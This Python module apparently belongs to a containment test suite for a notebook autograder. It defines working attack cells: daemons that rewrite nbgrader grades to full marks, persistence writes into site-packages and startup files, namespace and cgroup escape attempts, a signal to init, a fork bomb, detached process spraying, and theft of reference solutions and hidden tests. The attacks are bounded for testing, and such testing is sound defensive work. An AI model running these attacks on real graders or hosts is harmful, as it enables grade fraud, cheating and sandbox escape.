"""Cells a hostile learner adds to ``rnn_step_by_step`` to leave the grading kernel (issue 14).

Every attack is source text for one notebook cell. What an attack *writes* or *names* carries a marker
that appears nowhere in its source (the source holds it reversed and rebuilds it at run time), so after
the batch a file, a process (``/proc/<pid>/comm`` or ``/proc/<pid>/environ``) or a gradebook row carrying
the marker can only have been made by the attack. What an attack *sees* is printed on one line starting
with :data:`OBSERVED`, with the marker redacted, so the autograded notebook keeps the evidence.

The attacks are bounded so that a failure of the containment cannot hurt the machine: writes are
comments or files of their own (never a change that alters what a program does), gradebooks are only
rewritten for students whose id starts with the batch's prefix, daemons stop by themselves after
:data:`DAEMON_SECONDS`, the fork bomb stops at 5000 children or at the first refused fork, and its
children are small (forked from a ``python -S`` helper, not from the kernel).
"""

from __future__ import annotations

import json

OBSERVED = "ISOLATION-OBSERVED "
DAEMON_SECONDS = 150  # a daemon the containment failed to kill stops by itself after this long
BOMB_LIMIT = 5000

# Helpers every attack cell starts with (each cell is self-contained: cells may be graded in any task).
PRELUDE = r'''
import ctypes as _iso_ctypes, json as _iso_json, os as _iso_os, sys as _iso_sys, time as _iso_time
_ISO_MARK = "__REV__"[::-1]
_ISO_PREFIX = "__PREFIX__"
_ISO_KNOWN = _iso_json.loads('__KNOWN__')  # what an insider knows: the course folder, the submissions


def _iso_redact(value):
    return _iso_json.loads(_iso_json.dumps(value, default=str).replace(_ISO_MARK, "<MARK>"))


def _iso_observe(kind, data):
    data = dict(data, kind=kind)
    print("__OBSERVED__" + _iso_json.dumps(data, default=str).replace(_ISO_MARK, "<MARK>"), flush=True)


def _iso_error(error):
    return type(error).__name__ + ": " + str(error).replace(_ISO_MARK, "<MARK>")[:160]


def _iso_name(label=""):
    """Name this process after the marker (seen in /proc/<pid>/comm), so a survivor can be found."""
    try:
        _iso_ctypes.CDLL(None).prctl(15, _ISO_MARK.encode()[:15], 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


def _iso_daemonize():
    """Double fork and setsid, as a daemon does; returns True in the daemon, False in the caller."""
    first = _iso_os.fork()
    if first:
        _iso_os.waitpid(first, 0)
        return False
    _iso_os.setsid()
    if _iso_os.fork():
        _iso_os._exit(0)
    null = _iso_os.open(_iso_os.devnull, _iso_os.O_RDWR)
    for fd in (0, 1, 2):
        _iso_os.dup2(null, fd)
    _iso_name()
    return True


def _iso_project():
    import utils
    return _iso_os.path.dirname(_iso_os.path.dirname(_iso_os.path.abspath(utils.__file__)))


def _iso_mount_points():
    """Mount points of the kernel's view (only where the course, the grader or the tasks could be)."""
    places = ("/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/srv", "/opt", "/var/lib", "/sys/fs/cgroup",
              _iso_os.path.dirname(_iso_project()), *_ISO_KNOWN)
    points = []
    try:
        for line in open("/proc/self/mountinfo"):
            fields = line.split()
            point = fields[4]
            if any(point == p or point.startswith(p.rstrip("/") + "/") for p in places):
                points.append((point, fields[fields.index("-") + 1]))
    except OSError:
        pass
    return points


def _iso_proc_pids():
    return sorted(int(p) for p in _iso_os.listdir("/proc") if p.isdigit())


def _iso_ancestors():
    chain, pid = [], _iso_os.getpid()
    for _ in range(64):
        try:
            stat = open(f"/proc/{pid}/stat").read()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 0:
            break
        chain.append(pid)
    return chain


def _iso_find_files(roots, suffixes, budget_s=3.0, depth=4, skip=(".git", ".venv", "site-packages", "node_modules", "datasets", "__pycache__", ".cache", ".rustup", ".cargo", ".pyenv", ".m2", ".npm")):
    """Files under ``roots`` whose names end with one of ``suffixes`` (bounded in depth and time)."""
    found, started = set(), _iso_time.monotonic()
    for root in roots:
        base = root.rstrip("/").count("/")
        for folder, dirs, names in _iso_os.walk(root, onerror=lambda error: None):
            if _iso_time.monotonic() - started > budget_s:
                return sorted(found)
            dirs[:] = [d for d in dirs if d not in skip and not folder.startswith(("/proc/sys", "/sys"))]
            if folder.count("/") - base >= depth:
                dirs[:] = []
            for name in names:
                if name.endswith(suffixes):
                    found.add(_iso_os.path.join(folder, name))
    return sorted(found)


def _iso_rewrite_gradebook(path):
    """Every grade of this batch's students set to the maximum; for any other gradebook, only a write lock
    taken and released (nothing changes): what matters is whether it could be written at all."""
    import sqlite3
    result = {"path": path}
    try:
        connection = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=0.5)
        try:
            connection.execute("BEGIN IMMEDIATE")
            top = "(SELECT max_score FROM grade_cells g WHERE g.id = grade.cell_id)"
            cursor = connection.execute(
                f"UPDATE grade SET auto_score = {top}, manual_score = {top}, needs_manual_grade = 0 "
                "WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
                "ON sn.assignment_id = sa.id WHERE sa.student_id LIKE ?)",
                (_ISO_PREFIX + "%",),
            )
            connection.commit()
            result["writable"] = True
            result["rewrote"] = cursor.rowcount
        finally:
            connection.close()
    except Exception as error:
        result["writable"] = False
        result["error"] = _iso_error(error)
    return result


def _iso_rewrite_records(course):
    """The coordinator's own records (grades/<assignment>/<student>.json) of this batch: full marks."""
    results = {}
    folder = _iso_os.path.join(course, "grades")
    for assignment in (_iso_os.listdir(folder) if _iso_os.path.isdir(folder) else []):
        sub = _iso_os.path.join(folder, assignment)
        for name in (_iso_os.listdir(sub) if _iso_os.path.isdir(sub) else []):
            if not (name.startswith(_ISO_PREFIX) and name.endswith(".json")):
                continue
            path = _iso_os.path.join(sub, name)
            try:
                record = _iso_json.load(open(path))
                record["score"] = record.get("max_score", 100)
                with open(path, "w") as handle:
                    _iso_json.dump(record, handle)
                results[path] = "rewritten"
            except Exception as error:
                results[path] = _iso_error(error)
    return results
'''


def _fill(source: str, rev: str, prefix: str, known: list[str]) -> str:
    return (
        source.replace("__REV__", rev)
        .replace("__PREFIX__", prefix)
        .replace("__KNOWN__", json.dumps(known))
        .replace("__OBSERVED__", OBSERVED)
        .replace("__SECONDS__", str(DAEMON_SECONDS))
        .replace("__BOMB__", str(BOMB_LIMIT))
    )


# 1. A detached daemon that looks for the coordinator's course folder and gradebook through /proc (the
#    cwd and root of every ancestor and every process it can see), the mount table, the known course path
#    and a walk of the disk, and rewrites every grade of the batch to the maximum every 0.2 s.
GRADEBOOK_DAEMON = r"""
try:
    def _iso_candidates():
        roots = set(_ISO_KNOWN) | {"/tmp", "/var/tmp", "/dev/shm", _iso_os.path.expanduser("~"), "/root"}
        project = _iso_project()
        roots |= {project, _iso_os.path.dirname(project)}
        folder = _iso_os.getcwd()
        while folder != "/":
            roots.add(folder)
            folder = _iso_os.path.dirname(folder)
        roots |= {point for point, kind in _iso_mount_points() if kind == "tmpfs"}
        for pid in _iso_proc_pids():
            for link in ("cwd", "root"):
                path = f"/proc/{pid}/{link}"
                try:
                    _iso_os.listdir(path)
                    if link == "cwd" and pid != _iso_os.getpid():
                        roots.add(path)
                except OSError:
                    pass
        dbs = set(_iso_find_files(sorted(roots), (".db",), budget_s=4.0))
        courses = {_iso_os.path.dirname(p) for p in dbs if p.endswith("/gradebook.db")}
        courses |= {p for p in _ISO_KNOWN if _iso_os.path.isdir(_iso_os.path.join(p, "grades"))}
        return sorted(dbs), sorted(courses)

    ancestors = {}
    for pid in _iso_ancestors():
        for link in ("cwd", "root"):
            try:
                ancestors[f"{pid}/{link}"] = {"target": _iso_os.readlink(f"/proc/{pid}/{link}"),
                                              "listing": sorted(_iso_os.listdir(f"/proc/{pid}/{link}"))[:20]}
            except OSError as error:
                ancestors[f"{pid}/{link}"] = _iso_error(error)
    dbs, courses = _iso_candidates()
    writes = [_iso_rewrite_gradebook(p) for p in dbs]
    records = {}
    for course in courses:
        records.update(_iso_rewrite_records(course))
    _iso_observe("gradebook_daemon", {
        "pids_seen": _iso_proc_pids(), "ancestors": ancestors, "dbs": writes, "courses": courses,
        "records": records,
        "known": {p: (sorted(_iso_os.listdir(p)) if _iso_os.path.isdir(p) else "absent") for p in _ISO_KNOWN},
        "tmpfs_mounts": sorted({p for p, kind in _iso_mount_points() if kind == "tmpfs"}),
    })
    if _iso_daemonize():
        try:
            deadline, rescan = _iso_time.monotonic() + __SECONDS__, 0.0
            while _iso_time.monotonic() < deadline:
                if _iso_time.monotonic() > rescan:
                    dbs, courses = _iso_candidates()
                    rescan = _iso_time.monotonic() + 5.0
                for path in dbs:
                    _iso_rewrite_gradebook(path)
                for course in courses:
                    _iso_rewrite_records(course)
                _iso_time.sleep(0.2)
        finally:
            _iso_os._exit(0)
except Exception as error:
    _iso_observe("gradebook_daemon_failed", {"error": _iso_error(error)})
"""

# 2. A daemon that rewrites its own task's temporary gradebook after its tests: it looks next to and
#    above its working folder, in /tmp and through /proc, and keeps rewriting whatever it finds.
OWN_GRADEBOOK_DAEMON = r"""
try:
    import glob as _iso_glob

    def _iso_own_dbs():
        found = set()
        folder = _iso_os.getcwd()
        while True:
            found.update(_iso_glob.glob(_iso_os.path.join(folder, "*.db")))
            if folder == "/":
                break
            folder = _iso_os.path.dirname(folder)
        for pattern in ("/tmp/*.db", "/tmp/*/*.db", "/tmp/*/*/*.db", "/var/tmp/*/*.db", "/dev/shm/*/*.db",
                        "/proc/[0-9]*/cwd/gradebook.db", "/proc/[0-9]*/cwd/../../../gradebook.db"):
            found.update(_iso_glob.glob(pattern))
        found.update(_iso_find_files(["/tmp", "/var/tmp", "/dev/shm"], (".db", ".ipynb", "nbgrader_config.py"), budget_s=2.0, depth=6))
        return sorted(p for p in found if p.endswith(".db"))

    around = {}
    folder = _iso_os.getcwd()
    for _ in range(4):
        try:
            around[folder] = sorted(_iso_os.listdir(folder))[:30]
        except OSError as error:
            around[folder] = _iso_error(error)
        folder = _iso_os.path.dirname(folder)
    hidden_tests = _iso_find_files(["/tmp", _iso_os.getcwd()], (".ipynb", "gradebook.db", "nbgrader_config.py"), budget_s=2.0, depth=8)
    dbs = _iso_own_dbs()
    _iso_observe("own_gradebook_daemon", {
        "cwd": _iso_os.getcwd(), "around": around, "dbs": [_iso_rewrite_gradebook(p) for p in dbs],
        "notebooks_and_gradebooks_seen": hidden_tests,
    })
    if _iso_daemonize():
        try:
            deadline, rescan = _iso_time.monotonic() + __SECONDS__, 0.0
            while _iso_time.monotonic() < deadline:
                if _iso_time.monotonic() > rescan:
                    dbs = _iso_own_dbs()
                    rescan = _iso_time.monotonic() + 2.0
                for path in dbs:
                    _iso_rewrite_gradebook(path)
                _iso_time.sleep(0.2)
        finally:
            _iso_os._exit(0)
except Exception as error:
    _iso_observe("own_gradebook_daemon_failed", {"error": _iso_error(error)})
"""

# 3. Writes to everything a later process would read: the installed utils (and its __pycache__), the
#    project, site-packages (a .pth file, sitecustomize.py), the interpreter's standard library, IPython
#    startup files and matplotlib's config (the kernel's home and the grader's real home), Jupyter's and
#    Keras's config folders, and the shared temporary folders. Each write is a comment or a new file.
WRITES = r"""
try:
    import importlib.util as _iso_util
    import sysconfig as _iso_sysconfig

    import matplotlib as _iso_mpl
    import numpy as _iso_np
    import utils.testing as _iso_testing

    project = _iso_project()
    site = _iso_os.path.dirname(_iso_os.path.dirname(_iso_os.path.abspath(_iso_np.__file__)))
    stdlib = _iso_sysconfig.get_paths()["stdlib"]
    home = _iso_os.path.expanduser("~")
    real_home = "/root"
    comment = "\n# " + _ISO_MARK + "\n"
    targets = {
        "utils.testing (append)": (_iso_testing.__file__, "a", comment),
        "utils/ new module": (_iso_os.path.join(project, "utils", _ISO_MARK + ".py"), "w", comment),
        "utils/__pycache__ new file": (_iso_os.path.join(_iso_os.path.dirname(_iso_testing.__file__), "__pycache__", _ISO_MARK + ".cpython-311.pyc"), "w", comment),
        "autograder/ new module": (_iso_os.path.join(project, "autograder", _ISO_MARK + ".py"), "w", comment),
        "project root new file": (_iso_os.path.join(project, _ISO_MARK + ".txt"), "w", comment),
        "datasets new file": (_iso_os.path.join(project, "datasets", _ISO_MARK + ".txt"), "w", comment),
        "site-packages .pth": (_iso_os.path.join(site, _ISO_MARK + ".pth"), "w", "/nonexistent/" + _ISO_MARK + "\n"),
        "site-packages sitecustomize.py (append)": (_iso_os.path.join(site, "sitecustomize.py"), "a", comment),
        "numpy/__init__.py (append)": (_iso_np.__file__, "a", comment),
        "stdlib sitecustomize.py (append)": (_iso_os.path.join(stdlib, "sitecustomize.py"), "a", comment),
        "matplotlib package rc (append)": (_iso_mpl.matplotlib_fname(), "a", comment),
        "venv bin new file": (_iso_os.path.join(_iso_sys.prefix, "bin", _ISO_MARK), "w", comment),
        "home IPython startup": (_iso_os.path.join(home, ".ipython", "profile_default", "startup", "00-" + _ISO_MARK + ".py"), "w", comment),
        "home matplotlibrc": (_iso_os.path.join(_iso_mpl.get_configdir(), "matplotlibrc"), "a", comment),
        "real home IPython startup": (_iso_os.path.join(real_home, ".ipython", "profile_default", "startup", "00-" + _ISO_MARK + ".py"), "w", comment),
        "real home matplotlibrc": (_iso_os.path.join(real_home, ".config", "matplotlib", "matplotlibrc"), "a", comment),
        "real home jupyter config": (_iso_os.path.join(real_home, ".jupyter", _ISO_MARK + ".py"), "w", comment),
        "real home keras folder": (_iso_os.path.join(real_home, ".keras", _ISO_MARK + ".txt"), "w", comment),
        "real home top": (_iso_os.path.join(real_home, _ISO_MARK + ".txt"), "w", comment),
        "/tmp": (_iso_os.path.join("/tmp", _ISO_MARK + "-tmp.txt"), "w", comment),
        "/var/tmp": (_iso_os.path.join("/var/tmp", _ISO_MARK + "-vartmp.txt"), "w", comment),
        "/dev/shm": (_iso_os.path.join("/dev/shm", _ISO_MARK + "-shm.txt"), "w", comment),
    }
    for known in _ISO_KNOWN:
        targets["known " + known] = (_iso_os.path.join(known, _ISO_MARK + ".txt"), "w", comment)
    outcomes = {}
    for label, (path, mode, text) in targets.items():
        try:
            _iso_os.makedirs(_iso_os.path.dirname(path), exist_ok=True)
            with open(path, mode) as handle:
                handle.write(text)
            outcomes[label] = "written"
        except Exception as error:
            outcomes[label] = _iso_error(error)
    _iso_observe("writes", {"outcomes": outcomes, "home": home, "uid": _iso_os.getuid(), "gid": _iso_os.getgid()})
except Exception as error:
    _iso_observe("writes_failed", {"error": _iso_error(error)})
"""

# 3b. Ways around a read-only view: a user namespace (whose "root" could unmount the folders that hide the
#     course or remount the disk read-write), a fresh cgroup hierarchy's release_agent, inherited file
#     descriptors, /proc of the parent, signals to init, and moving out of the task's cgroups.
ESCAPES = r"""
try:
    import signal as _iso_signal

    project = _iso_project()
    hidden = sorted({p for p, kind in _iso_mount_points() if kind == "tmpfs"})
    result = {"hidden_tmpfs": hidden, "cwd": _iso_os.getcwd()}

    read_end, write_end = _iso_os.pipe()
    child = _iso_os.fork()
    if child == 0:  # single-threaded here, as unshare(CLONE_NEWUSER) requires
        found = {}
        try:
            libc = _iso_ctypes.CDLL(None, use_errno=True)
            uid, gid = _iso_os.getuid(), _iso_os.getgid()
            libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/self/uid_map becomes its own to write
            if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
                found["unshare"] = _iso_os.strerror(_iso_ctypes.get_errno())
            else:
                found["unshare"] = "ok"
                for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
                    try:
                        with open(f"/proc/self/{name}", "w") as handle:
                            handle.write(text)
                    except OSError as error:
                        found["map " + name] = _iso_error(error)

                def attempt(label, call):
                    found[label] = "ok" if call() == 0 else _iso_os.strerror(_iso_ctypes.get_errno())

                for point in [*hidden, *_ISO_KNOWN]:
                    attempt("umount " + point, lambda: libc.umount2(point.encode(), 2))  # MNT_DETACH
                for point in ("/", project, _iso_os.path.join(project, "utils")):
                    attempt("remount rw " + point, lambda: libc.mount(None, point.encode(), None, 0x20 | 0x1000, None))
                try:
                    scratch = "/tmp/" + _ISO_MARK + "-cg"
                    _iso_os.makedirs(scratch, exist_ok=True)
                    attempt("mount cgroup v1 pids", lambda: libc.mount(b"cgroup", scratch.encode(), b"cgroup", 0, b"pids"))
                    agent = _iso_os.path.join(scratch, "release_agent")
                    if _iso_os.path.exists(agent):
                        current = open(agent).read()
                        try:
                            with open(agent, "w") as handle:  # the same value: harmless if allowed
                                handle.write(current.strip() or "\n")
                            found["release_agent write"] = "ok"
                        except OSError as error:
                            found["release_agent write"] = _iso_error(error)
                except Exception as error:
                    found["cgroup"] = _iso_error(error)
                try:
                    with open(_iso_os.path.join(project, "utils", _ISO_MARK + "-userns.py"), "w") as handle:
                        handle.write("# " + _ISO_MARK + "\n")
                    found["write utils after"] = "written"
                except OSError as error:
                    found["write utils after"] = _iso_error(error)
                found["known after"] = {p: (sorted(_iso_os.listdir(p))[:20] if _iso_os.path.isdir(p) else "absent") for p in _ISO_KNOWN}
        except Exception as error:
            found["error"] = _iso_error(error)
        _iso_os.write(write_end, _iso_json.dumps(found).encode())
        _iso_os._exit(0)
    _iso_os.close(write_end)
    data = b""
    while chunk := _iso_os.read(read_end, 65536):
        data += chunk
    _iso_os.close(read_end)
    _iso_os.waitpid(child, 0)
    result["userns"] = _iso_json.loads(data or b"{}")

    descriptors = {}
    for fd in sorted(int(n) for n in _iso_os.listdir("/proc/self/fd")):
        try:
            target = _iso_os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        entry = {"target": target}
        try:
            if _iso_os.path.isdir(f"/proc/self/fd/{fd}"):
                entry["listing"] = sorted(_iso_os.listdir(fd))[:20]
                handle = _iso_os.open(_ISO_MARK + "-fd.txt", _iso_os.O_WRONLY | _iso_os.O_CREAT, 0o644, dir_fd=fd)
                _iso_os.close(handle)
                entry["create inside"] = "written"
        except OSError as error:
            entry["dir"] = _iso_error(error)
        descriptors[fd] = entry
    result["descriptors"] = descriptors

    for pid in (1, _iso_os.getppid()):
        for link in ("cwd", "root", "fd"):
            try:
                result[f"/proc/{pid}/{link}"] = sorted(_iso_os.listdir(f"/proc/{pid}/{link}"))[:20]
            except OSError as error:
                result[f"/proc/{pid}/{link}"] = _iso_error(error)
    try:
        _iso_os.kill(1, _iso_signal.SIGTERM)
        result["kill init"] = "sent"
    except OSError as error:
        result["kill init"] = _iso_error(error)

    cgroups = {}
    for line in open("/proc/self/cgroup"):
        _, controllers, path = line.strip().split(":", 2)
        for controller in controllers.split(","):
            if controller in ("pids", "memory"):
                cgroups[controller] = path
    moves = {}
    for controller, path in cgroups.items():
        base = "/sys/fs/cgroup/" + controller
        for label, target in (("root", base + "/cgroup.procs"), ("own limit", base + path + ("/pids.max" if controller == "pids" else "/memory.limit_in_bytes"))):
            try:
                with open(target, "w") as handle:
                    handle.write(str(_iso_os.getpid()) if label == "root" else ("max" if controller == "pids" else "-1"))
                moves[f"{controller} {label}"] = "written"
            except OSError as error:
                moves[f"{controller} {label}"] = _iso_error(error)
    result["cgroups"] = cgroups
    result["cgroup writes"] = moves
    import socket as _iso_socket
    result["hostname"] = _iso_socket.gethostname()
    _iso_observe("escapes", result)
except Exception as error:
    _iso_observe("escapes_failed", {"error": _iso_error(error)})
"""

# 4. A fork bomb: a small helper (python -S, a few MB) forks sleeping children until a fork is refused
#    (or 5000 children: the bound that keeps the machine safe if no limit held). Then it tries to lift
#    the limit. The children stay: the task's end must take them.
FORK_BOMB = r'''
try:
    import subprocess as _iso_subprocess

    bomb = """
import os, sys, time
count, error = 0, None
while count < __BOMB__:
    try:
        pid = os.fork()
    except OSError as failure:
        error = type(failure).__name__ + ": " + str(failure)
        break
    if pid == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        time.sleep(600)
        os._exit(0)
    count += 1
print(count, error, sep="|", flush=True)
"""
    env = dict(_iso_os.environ, SEQLAB_ISOLATION_MARK=_ISO_MARK)
    run = _iso_subprocess.run([_iso_sys.executable, "-S", "-c", bomb], env=env, capture_output=True, text=True, timeout=25)
    count, _, error = run.stdout.strip().partition("|")
    lift = {}
    for line in open("/proc/self/cgroup"):
        _, controllers, path = line.strip().split(":", 2)
        if "pids" in controllers.split(","):
            try:
                with open(f"/sys/fs/cgroup/pids{path}/pids.max", "w") as handle:
                    handle.write("max")
                lift["pids.max"] = "written"
            except OSError as error_:
                lift["pids.max"] = _iso_error(error_)
            try:
                lift["pids.current"] = open(f"/sys/fs/cgroup/pids{path}/pids.current").read().strip()
            except OSError as error_:
                lift["pids.current"] = _iso_error(error_)
    _iso_observe("fork_bomb", {"forked": int(count or 0), "error": error, "helper_exit": run.returncode, "stderr": run.stderr[-300:], "lift": lift})
except Exception as error:
    _iso_observe("fork_bomb_failed", {"error": _iso_error(error)})
'''

# 5. Processes that detach every way they can: forked sleepers, a double-fork daemon, a setsid child,
#    sleep 600 started in a new session (subprocess), through nohup and through setsid(1).
SPRAY = r"""
try:
    import shutil as _iso_shutil
    import signal as _iso_signal
    import subprocess as _iso_subprocess

    started = {}
    children = []
    for _ in range(3):
        pid = _iso_os.fork()
        if pid == 0:
            _iso_name()
            null = _iso_os.open(_iso_os.devnull, _iso_os.O_RDWR)
            for fd in (0, 1, 2):
                _iso_os.dup2(null, fd)
            _iso_time.sleep(600)
            _iso_os._exit(0)
        children.append(pid)
    started["forked sleepers"] = children
    if _iso_daemonize():
        _iso_time.sleep(600)
        _iso_os._exit(0)
    started["double-fork daemon"] = "started"
    pid = _iso_os.fork()
    if pid == 0:
        _iso_os.setsid()
        _iso_signal.signal(_iso_signal.SIGHUP, _iso_signal.SIG_IGN)
        _iso_name()
        null = _iso_os.open(_iso_os.devnull, _iso_os.O_RDWR)
        for fd in (0, 1, 2):
            _iso_os.dup2(null, fd)
        _iso_time.sleep(600)
        _iso_os._exit(0)
    started["setsid child"] = pid
    env = dict(_iso_os.environ, SEQLAB_ISOLATION_MARK=_ISO_MARK)
    quiet = dict(stdin=_iso_subprocess.DEVNULL, stdout=_iso_subprocess.DEVNULL, stderr=_iso_subprocess.DEVNULL, env=env)
    sleep = _iso_shutil.which("sleep")
    commands = {"new session": [sleep, "600"]}
    if _iso_shutil.which("nohup"):
        commands["nohup"] = [_iso_shutil.which("nohup"), sleep, "600"]
    if _iso_shutil.which("setsid"):
        commands["setsid(1)"] = [_iso_shutil.which("setsid"), "-f", sleep, "600"]
    for label, command in commands.items():
        try:
            started[label] = _iso_subprocess.Popen(command, start_new_session=True, **quiet).pid
        except OSError as error:
            started[label] = _iso_error(error)
    _iso_time.sleep(0.5)
    _iso_observe("spray", {"started": started, "visible_pids": _iso_proc_pids(), "my_pid": _iso_os.getpid()})
except Exception as error:
    _iso_observe("spray_failed", {"error": _iso_error(error)})
"""

# 6. Full marks without knowing the answers: the reference solutions (and hidden tests) of this very
#    assignment, wherever the kernel can read them: a source notebook in the project's folders, the
#    project's git history (``git show HEAD:assignments/source/...``), any gradebook (nbgrader keeps the
#    test cells' full source, hidden tests included). Each answer cell then runs the stolen answer (see
#    STEAL_EACH).
SOLUTION_THIEF = r"""
_ISO_STOLEN = {}
try:
    import glob as _iso_glob
    import shutil as _iso_shutil
    import sqlite3 as _iso_sqlite3
    import subprocess as _iso_subprocess

    _iso_assignment = "__ASSIGNMENT__"
    project = _iso_project()
    seen = {"notebooks": [], "git": None, "gradebooks_with_hidden_tests": {}, "from": None}

    def _iso_take(text, origin):
        try:
            notebook = _iso_json.loads(text)
        except ValueError:
            return False
        cells = {}
        for cell in notebook.get("cells", []):
            meta = cell.get("metadata", {}).get("nbgrader", {})
            source = "".join(cell.get("source", ""))
            if meta.get("solution") and "### BEGIN SOLUTION" in source:
                cells[meta["grade_id"]] = source
        if cells and not _ISO_STOLEN:
            _ISO_STOLEN.update(cells)
            seen["from"] = origin
        return bool(cells)

    git = _iso_shutil.which("git")
    if git:  # first: it works even where the course's own folder is hidden (the default course)
        run = _iso_subprocess.run(
            [git, "-c", "safe.directory=*", "-C", project, "show",
             f"HEAD:assignments/source/{_iso_assignment}/{_iso_assignment}.ipynb"],
            capture_output=True, text=True, timeout=20,
        )
        seen["git"] = "read" if run.returncode == 0 and _iso_take(run.stdout, "git") else run.stderr.strip()[-160:]
    for path in _iso_find_files([project], (_iso_assignment + ".ipynb",), budget_s=3.0, depth=5):
        try:
            if _iso_take(open(path).read(), "worktree"):
                seen["notebooks"].append(path)
        except OSError:
            pass
    for path in _iso_find_files([project, *_ISO_KNOWN], (".db",), budget_s=2.0, depth=4):
        try:
            connection = _iso_sqlite3.connect(f"file:{path}?mode=ro", uri=True)
            count = connection.execute(
                "SELECT count(*) FROM source_cell WHERE source LIKE '%BEGIN HIDDEN TESTS%'"
            ).fetchone()[0]
            connection.close()
            if count:
                seen["gradebooks_with_hidden_tests"][path] = count
        except Exception:
            pass
    seen["stolen"] = sorted(_ISO_STOLEN)
    _iso_observe("solution_thief", seen)
except Exception as error:
    _iso_observe("solution_thief_failed", {"error": _iso_error(error)})
"""

# Appended to every answer cell of the thief's notebook, after the learner's own (possibly unanswered) code.
STEAL_EACH = """
exec(globals().get("_ISO_STOLEN", {}).get("__GRADE_ID__", ""), globals())
"""

ATTACKS = {
    "gradebook_daemon": GRADEBOOK_DAEMON,
    "own_gradebook_daemon": OWN_GRADEBOOK_DAEMON,
    "writes": WRITES,
    "escapes": ESCAPES,
    "fork_bomb": FORK_BOMB,
    "spray": SPRAY,
    "solution_thief": SOLUTION_THIEF,
}


def attack_source(
    name: str, rev: str, prefix: str, known: list[str], assignment: str = "rnn_step_by_step"
) -> str:
    """The cell source of attack ``name``, with the batch's reversed marker, student prefix and known paths."""
    return _fill(PRELUDE + ATTACKS[name], rev, prefix, known).replace("__ASSIGNMENT__", assignment)


def steal_each(grade_id: str) -> str:
    """What the solution thief appends to answer cell ``grade_id``."""
    return STEAL_EACH.replace("__GRADE_ID__", grade_id)


def observations(notebook) -> dict[str, dict]:
    """The attacks' observations printed in an executed notebook, by kind."""
    found = {}
    for cell in notebook.get("cells", []):
        for output in cell.get("outputs", []):
            text = output.get("text", "")
            if isinstance(text, list):
                text = "".join(text)
            for line in text.splitlines():
                if line.startswith(OBSERVED):
                    data = json.loads(line[len(OBSERVED) :])
                    found[data["kind"]] = data
    return found
